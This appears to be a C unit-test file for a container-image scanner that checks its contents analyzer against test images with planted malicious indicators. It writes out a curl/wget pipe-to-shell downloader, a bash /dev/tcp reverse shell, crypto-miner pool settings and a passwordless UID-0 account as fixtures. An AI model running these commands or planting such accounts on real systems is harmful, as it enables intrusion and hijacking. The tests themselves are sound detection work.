@@ -1,0 +1,411 @@
+/* test_contents_scan.c: the contents analyzer inside whole scans of small OCI
+ * layouts written by the test: rule findings with lines and layers, hidden
+ * files, accounts, config strings, executables, the entrypoint and its
+ * severity step, --no-content, YARA, and a clean Alpine root filesystem. */
+#include "testutil.h"
+
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+#include "imagevet/scan.h"
+#include "layer/layer.h"
+#include "report/report.h"
+
+static const struct ivet_finding *find(const struct ivet_report *r, const char *id, const char *path)
+{
+    for (size_t i = 0; i < r->findings.n; i++)
+        if (!strcmp(r->findings.v[i].id, id) &&
+            (!path || (r->findings.v[i].path && !strcmp(r->findings.v[i].path, path))))
+            return &r->findings.v[i];
+    return NULL;
+}
+
+static void dump(const struct ivet_report *r)
+{
+    for (size_t i = 0; i < r->findings.n; i++) {
+        const struct ivet_finding *f = &r->findings.v[i];
+        print_message("  %s %s %s:%u layer %d%s | %s\n", ivet_severity_name(f->severity), f->id,
+                      f->path ? f->path : "-", f->line, f->layer, f->hidden ? " hidden" : "",
+                      f->evidence ? f->evidence : "");
+    }
+}
+
+struct img {
+    struct tu_tar *t[4];
+    size_t n;
+    char *dir;
+};
+
+static struct ivet_report *scan(struct img *im, const char *config, bool no_content, const char *yara,
+                                unsigned threads)
+{
+    struct tu_layer ls[4];
+    for (size_t i = 0; i < im->n; i++) {
+        ls[i] = (struct tu_layer){ 0 };
+        ls[i].blob = tu_tar_bytes(im->t[i], &ls[i].len);
+    }
+    im->dir = tu_oci_layout(config, ls, im->n);
+    struct ivet_scan_opts o;
+    ivet_scan_opts_init(&o);
+    char ref[4200];
+    snprintf(ref, sizeof(ref), "oci:%s:test", im->dir);
+    o.image = ref;
+    o.offline = true;
+    o.threads = threads;
+    o.no_content = no_content;
+    o.yara_rules = yara;
+    struct ivet_err err = IVET_ERR_INIT;
+    struct ivet_report *r = ivet_scan(&o, &err);
+    if (!r)
+        fail_msg("scan failed: %s", ivet_err_msg(&err));
+    ivet_err_release(&err);
+    return r;
+}
+
+static void img_free(struct img *im)
+{
+    for (size_t i = 0; i < im->n; i++)
+        tu_tar_free(im->t[i]);
+    if (im->dir) {
+        tu_rm_rf(im->dir);
+        free(im->dir);
+    }
+}
+
+#define FILE_(t, path, mode, text) tu_tar_add(t, 'f', path, mode, text, strlen(text), NULL)
+
+static const char *plain_config = "{\"architecture\":\"amd64\",\"os\":\"linux\",\"config\":{\"User\":\"1000\"}}";
+
+static void test_contents_miner_files_have_line_and_layer(void **state)
+{
+    (void)state;
+    struct img im = { .n = 2 };
+    im.t[0] = tu_tar_new();
+    im.t[1] = tu_tar_new();
+    FILE_(im.t[0], "etc/hostname", 0644, "box\n");
+    FILE_(im.t[1], "opt/x/config.json", 0644, "{\n  \"autosave\": true,\n  \"donate-level\": 1\n}\n");
+    FILE_(im.t[1], "opt/x/run.sh", 0755, "#!/bin/sh\n\n./x -o stratum+tcp://pool.example.org:3333\n");
+    for (unsigned threads = 1; threads <= 2; threads++) {
+        struct ivet_report *r = scan(&im, plain_config, false, NULL, threads);
+        const struct ivet_finding *f = find(r, "CONT-MINER-XMRIG-CONFIG", "/opt/x/config.json");
+        if (!f)
+            dump(r);
+        assert_non_null(f);
+        assert_int_equal(f->line, 3);
+        assert_int_equal(f->layer, 1);
+        assert_string_equal(f->category, "contents");
+        f = find(r, "CONT-MINER-STRATUM", "/opt/x/run.sh");
+        assert_non_null(f);
+        assert_int_equal(f->line, 3);
+        assert_int_equal(f->severity, IVET_SEV_CRITICAL);
+        assert_non_null(strstr(f->evidence, "stratum+tcp://pool.example.org:3333"));
+        assert_int_equal(r->verdict, IVET_VERDICT_FAIL);
+        ivet_report_free(r);
+        tu_rm_rf(im.dir);
+        free(im.dir);
+        im.dir = NULL;
+    }
+    img_free(&im);
+}
+
+static void test_contents_hidden_file_names_both_layers(void **state)
+{
+    (void)state;
+    struct img im = { .n = 2 };
+    im.t[0] = tu_tar_new();
+    im.t[1] = tu_tar_new();
+    FILE_(im.t[0], "usr/local/bin/fetch.sh", 0755, "#!/bin/sh\ncurl -s http://198.51.100.7/a | sh\n");
+    tu_tar_add(im.t[1], 'f', "usr/local/bin/.wh.fetch.sh", 0, NULL, 0, NULL);
+    struct ivet_report *r = scan(&im, plain_config, false, NULL, 2);
+    const struct ivet_finding *f = find(r, "CONT-DROP-PIPE-SHELL", "/usr/local/bin/fetch.sh");
+    if (!f)
+        dump(r);
+    assert_non_null(f);
+    assert_true(f->hidden);
+    assert_int_equal(f->layer, 0);
+    assert_int_equal(f->hidden_by, 1);
+    assert_int_equal(r->verdict, IVET_VERDICT_FAIL);
+    ivet_report_free(r);
+    img_free(&im);
+}
+
+static void test_contents_accounts_in_final_image(void **state)
+{
+    (void)state;
+    struct img im = { .n = 2 };
+    im.t[0] = tu_tar_new();
+    im.t[1] = tu_tar_new();
+    /* the lower passwd is clean; the upper one adds a second root */
+    FILE_(im.t[0], "etc/passwd", 0644, "root:x:0:0::/root:/bin/sh\n");
+    FILE_(im.t[1], "etc/passwd", 0644, "root:x:0:0::/root:/bin/sh\nbackup:x:0:0::/:/bin/sh\n");
+    FILE_(im.t[1], "etc/shadow", 0640, "root:*:19000::::::\nbackup::19000::::::\n");
+    struct ivet_report *r = scan(&im, plain_config, false, NULL, 2);
+    const struct ivet_finding *f = find(r, "CONT-ACCOUNT-UID0", "/etc/passwd");
+    if (!f)
+        dump(r);
+    assert_non_null(f);
+    assert_int_equal(f->line, 2);
+    assert_int_equal(f->layer, 1);
+    assert_non_null(strstr(f->evidence, "backup"));
+    f = find(r, "CONT-ACCOUNT-EMPTY-PASSWORD", "/etc/shadow");
+    assert_non_null(f);
+    assert_int_equal(f->line, 2);
+    ivet_report_free(r);
+    img_free(&im);
+}
+
+static void test_contents_config_strings(void **state)
+{
+    (void)state;
+    struct img im = { .n = 2 };
+    im.t[0] = tu_tar_new();
+    im.t[1] = tu_tar_new();
+    FILE_(im.t[0], "bin/busybox", 0755, "\x7f" "ELF");
+    FILE_(im.t[1], "etc/motd", 0644, "hi\n");
+    const char *cfg = "{\"architecture\":\"amd64\",\"os\":\"linux\",\"config\":{\"User\":\"1000\","
+        "\"Env\":[\"PATH=/bin\",\"POOL=stratum+ssl://pool.example.net:443\"],"
+        "\"Cmd\":[\"/bin/busybox\",\"--donate-level=1\",\"-a\",\"rx/0\"]},"
+        "\"history\":[{\"created_by\":\"ADD rootfs.tar /\"},"
+        "{\"created_by\":\"/bin/sh -c #(nop) ENV X=1\",\"empty_layer\":true},"
+        "{\"created_by\":\"/bin/sh -c wget -qO- http://198.51.100.7/i | sh\"}]}";
+    struct ivet_report *r = scan(&im, cfg, false, NULL, 1);
+    const struct ivet_finding *f = find(r, "CONT-MINER-CLI", NULL);
+    if (!f)
+        dump(r);
+    assert_non_null(f);
+    assert_null(f->path);
+    assert_non_null(strstr(f->evidence, "ENTRYPOINT/CMD: "));
+    f = find(r, "CONT-MINER-STRATUM", NULL);
+    assert_non_null(f);
+    assert_non_null(strstr(f->evidence, "ENV: "));
+    f = find(r, "CONT-DROP-PIPE-SHELL", NULL);
+    assert_non_null(f);
+    assert_non_null(strstr(f->evidence, "history: "));
+    assert_int_equal(f->layer, 1);          /* the empty ENV step made no layer */
+    ivet_report_free(r);
+    img_free(&im);
+}
+
+/* A 64-bit ELF program without program headers for INTERP: static. */
+static size_t tiny_elf(uint8_t *b, bool upx)
+{
+    memset(b, 0, 256);
+    memcpy(b, "\x7f" "ELF\x02\x01\x01", 7);
+    b[16] = 2;                  /* ET_EXEC */
+    b[18] = 62;
+    b[32] = 64;                 /* e_phoff */
+    b[54] = 56;                 /* e_phentsize */
+    b[56] = 1;                  /* one PT_LOAD */
+    b[64] = 1;
+    if (upx)
+        memcpy(b + 130, "UPX!", 4);
+    return 256;
+}
+
+static void test_contents_executables(void **state)
+{
+    (void)state;
+    struct img im = { .n = 1 };
+    im.t[0] = tu_tar_new();
+    uint8_t elf[256], upx[256];
+    tu_tar_add(im.t[0], 'f', "root/.x/kswapd", 0755, elf, tiny_elf(elf, false), NULL);
+    tu_tar_add(im.t[0], 'f', "usr/local/bin/packed", 0755, upx, tiny_elf(upx, true), NULL);
+    tu_tar_add(im.t[0], 'f', "usr/local/bin/server", 0755, elf, tiny_elf(elf, false), NULL);
+    FILE_(im.t[0], "tmp/.s/run", 0755, "#!/bin/sh\necho\n");
+    FILE_(im.t[0], "tmp/notes.txt", 0644, "x\n");
+    struct ivet_report *r = scan(&im, plain_config, false, NULL, 1);
+    if (!find(r, "CONT-EXEC-STATIC", "/root/.x/kswapd"))
+        dump(r);
+    assert_non_null(find(r, "CONT-EXEC-STATIC", "/root/.x/kswapd"));
+    assert_non_null(find(r, "CONT-EXEC-HIDDEN", "/root/.x/kswapd"));
+    assert_non_null(find(r, "CONT-EXEC-UPX", "/usr/local/bin/packed"));
+    assert_null(find(r, "CONT-EXEC-STATIC", "/usr/local/bin/server"));   /* a normal place */
+    assert_non_null(find(r, "CONT-EXEC-TMP", "/tmp/.s/run"));
+    assert_null(find(r, "CONT-EXEC-TMP", "/tmp/notes.txt"));
+    ivet_report_free(r);
+    img_free(&im);
+}
+
+static void test_contents_entrypoint_resolved_and_raised(void **state)
+{
+    (void)state;
+    struct img im = { .n = 2 };
+    im.t[0] = tu_tar_new();
+    im.t[1] = tu_tar_new();
+    FILE_(im.t[0], "bin/dash", 0755, "\x7f" "ELF");
+    tu_tar_add(im.t[0], 'l', "bin/sh", 0777, NULL, 0, "dash");
+    FILE_(im.t[1], "usr/local/bin/entry.sh", 0755,
+          "#!/bin/sh\n/usr/local/lib/setup.sh\n/usr/sbin/sshd -D &\nexec \"$@\"\n");
+    FILE_(im.t[1], "usr/local/lib/setup.sh", 0755, "#!/bin/sh\nchmod +x /tmp/kd\n");
+    FILE_(im.t[1], "opt/other.sh", 0755, "#!/bin/sh\nchmod +x /tmp/kd\n");
+    tu_tar_add(im.t[1], 'l', "entry", 0777, NULL, 0, "usr/local/bin/entry.sh");
+    const char *cfg = "{\"architecture\":\"amd64\",\"os\":\"linux\",\"config\":{\"User\":\"1000\","
+        "\"Env\":[\"PATH=/usr/local/bin:/bin\"],\"Entrypoint\":[\"/entry\"],\"Cmd\":[\"app\"]}}";
+    struct ivet_report *r = scan(&im, cfg, false, NULL, 2);
+    assert_non_null(r->entrypoint);
+    assert_string_equal(r->entrypoint, "/usr/local/bin/entry.sh");
+    const struct ivet_finding *f = find(r, "CONT-BACKDOOR-SSHD", "/usr/local/bin/entry.sh");
+    if (!f)
+        dump(r);
+    assert_non_null(f);
+    assert_int_equal(f->severity, IVET_SEV_HIGH);          /* medium, one step up */
+    f = find(r, "CONT-DROP-CHMOD-TMP", "/usr/local/lib/setup.sh");
+    assert_non_null(f);
+    assert_int_equal(f->severity, IVET_SEV_CRITICAL);      /* named by the entrypoint */
+    f = find(r, "CONT-DROP-CHMOD-TMP", "/opt/other.sh");
+    assert_non_null(f);
+    assert_int_equal(f->severity, IVET_SEV_HIGH);          /* not run at start */
+    json_t *j = ivet_report_to_json(r, NULL);
+    if (j) {
+        assert_string_equal(json_string_value(json_object_get(json_object_get(j, "image"), "entrypoint")),
+                            "/usr/local/bin/entry.sh");
+        json_decref(j);
+    }
+    ivet_report_free(r);
+    img_free(&im);
+}
+
+static void test_contents_no_content_turns_it_off(void **state)
+{
+    (void)state;
+    struct img im = { .n = 1 };
+    im.t[0] = tu_tar_new();
+    FILE_(im.t[0], "run.sh", 0755, "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n");
+    struct ivet_report *r = scan(&im, plain_config, true, NULL, 1);
+    for (size_t i = 0; i < r->findings.n; i++)
+        if (ivet_startswith(r->findings.v[i].id, "CONT-"))
+            fail_msg("--no-content still reported %s", r->findings.v[i].id);
+    ivet_report_free(r);
+    tu_rm_rf(im.dir);
+    free(im.dir);
+    im.dir = NULL;
+    r = scan(&im, plain_config, false, NULL, 1);
+    assert_non_null(find(r, "CONT-BACKDOOR-DEV-TCP", "/run.sh"));
+    ivet_report_free(r);
+    img_free(&im);
+}
+
+static void test_contents_yara_rule(void **state)
+{
+    (void)state;
+    char dir[] = "/tmp/ivet-yara-XXXXXX";
+    assert_non_null(mkdtemp(dir));
+    char path[256];
+    snprintf(path, sizeof(path), "%s/mine.yar", dir);
+    FILE *f = fopen(path, "w");
+    assert_non_null(f);
+    fputs("rule Test_Planted_Marker {\n  meta:\n    description = \"planted marker\"\n"
+          "    severity = \"medium\"\n  strings:\n    $a = \"PLANTED-MARKER-42\"\n"
+          "  condition:\n    $a\n}\n", f);
+    fclose(f);
+    struct img im = { .n = 1 };
+    im.t[0] = tu_tar_new();
+    FILE_(im.t[0], "srv/data.bin", 0644, "xx PLANTED-MARKER-42 yy");
+    FILE_(im.t[0], "srv/other.bin", 0644, "nothing here");
+    struct ivet_report *r = scan(&im, plain_config, false, dir, 1);
+    const struct ivet_finding *x = find(r, "Test_Planted_Marker", "/srv/data.bin");
+    if (!x)
+        dump(r);
+    assert_non_null(x);
+    assert_int_equal(x->severity, IVET_SEV_MEDIUM);
+    assert_string_equal(x->title, "planted marker");
+    assert_null(find(r, "Test_Planted_Marker", "/srv/other.bin"));
+    ivet_report_free(r);
+    /* a rule file that does not compile fails the scan with its name and line */
+    f = fopen(path, "w");
+    fputs("rule broken {\n  condition:\n    $nope\n}\n", f);
+    fclose(f);
+    tu_rm_rf(im.dir);
+    free(im.dir);
+    struct tu_layer l = { 0 };
+    l.blob = tu_tar_bytes(im.t[0], &l.len);
+    im.dir = tu_oci_layout(plain_config, &l, 1);
+    struct ivet_scan_opts o;
+    ivet_scan_opts_init(&o);
+    char ref[4200];
+    snprintf(ref, sizeof(ref), "oci:%s:test", im.dir);
+    o.image = ref;
+    o.offline = true;
+    o.yara_rules = path;
+    struct ivet_err err = IVET_ERR_INIT;
+    assert_null(ivet_scan(&o, &err));
+    if (!strstr(ivet_err_msg(&err), "mine.yar' line") || !strstr(ivet_err_msg(&err), "$nope"))
+        fail_msg("error: %s", ivet_err_msg(&err));
+    ivet_err_release(&err);
+    unlink(path);
+    rmdir(dir);
+    img_free(&im);
+}
+
+/* Alpine 3.20's root filesystem: no contents finding of medium or worse,
+ * and nothing high or critical from the content engine at all. */
+static void test_contents_alpine_rootfs_is_clean(void **state)
+{
+    (void)state;
+    char *path = tu_shared_path("rootfs/alpine-minirootfs-3.20.3-x86_64.tar.gz");
+    if (!path)
+        tu_skip_no_shared("rootfs/alpine-minirootfs-3.20.3-x86_64.tar.gz");
+    struct ivet_err err = IVET_ERR_INIT;
+    size_t gzlen, tarlen;
+    char *gz = tu_read_file(path, &gzlen);
+    assert_non_null(gz);
+    struct ivet_limits lim = ivet_limits_default();
+    struct ivet_istream *s = ivet_istream_from_mem(gz, gzlen, 0, &err);
+    s = ivet_istream_decompress(s, IVET_COMPRESSION_DETECT, &lim, "alpine", NULL, &err);
+    char *tar = NULL;
+    assert_non_null(s);
+    assert_int_equal(ivet_istream_slurp(s, 64u << 20, &tar, &tarlen, &err), 0);
+    ivet_istream_close(s);
+    struct tu_layer l = { (const uint8_t *)gz, gzlen, "application/vnd.oci.image.layer.v1.tar+gzip",
+                          (const uint8_t *)tar, tarlen };
+    char *dir = tu_oci_layout("{\"architecture\":\"amd64\",\"os\":\"linux\",\"config\":{"
+                              "\"Env\":[\"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\"],"
+                              "\"Cmd\":[\"/bin/sh\"]}}", &l, 1);
+    struct ivet_scan_opts o;
+    ivet_scan_opts_init(&o);
+    char ref[4200];
+    snprintf(ref, sizeof(ref), "oci:%s:test", dir);
+    o.image = ref;
+    o.offline = true;
+    struct ivet_report *r = ivet_scan(&o, &err);
+    if (!r)
+        fail_msg("scan failed: %s", ivet_err_msg(&err));
+    unsigned bad = 0;
+    for (size_t i = 0; i < r->findings.n; i++) {
+        const struct ivet_finding *f = &r->findings.v[i];
+        bool contents = strcmp(f->category, "contents") == 0;
+        bool secrets = strcmp(f->category, "secrets") == 0;
+        if ((contents && f->severity >= IVET_SEV_MEDIUM) || (secrets && f->severity >= IVET_SEV_HIGH)) {
+            print_message("unexpected: %s %s %s\n", ivet_severity_name(f->severity), f->id, f->path ? f->path : "-");
+            bad++;
+        }
+    }
+    assert_non_null(find(r, "CONT-PERSIST-CRON-ENTRY", "/etc/crontabs/root"));   /* documented, info */
+    assert_string_equal(r->entrypoint, "/bin/busybox");
+    assert_int_equal(bad, 0);
+    ivet_report_free(r);
+    tu_rm_rf(dir);
+    free(dir);
+    free(tar);
+    free(gz);
+    free(path);
+    ivet_err_release(&err);
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(test_contents_miner_files_have_line_and_layer),
+        cmocka_unit_test(test_contents_hidden_file_names_both_layers),
+        cmocka_unit_test(test_contents_accounts_in_final_image),
+        cmocka_unit_test(test_contents_config_strings),
+        cmocka_unit_test(test_contents_executables),
+        cmocka_unit_test(test_contents_entrypoint_resolved_and_raised),
+        cmocka_unit_test(test_contents_no_content_turns_it_off),
+        cmocka_unit_test(test_contents_yara_rule),
+        cmocka_unit_test(test_contents_alpine_rootfs_is_clean),
+    };
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
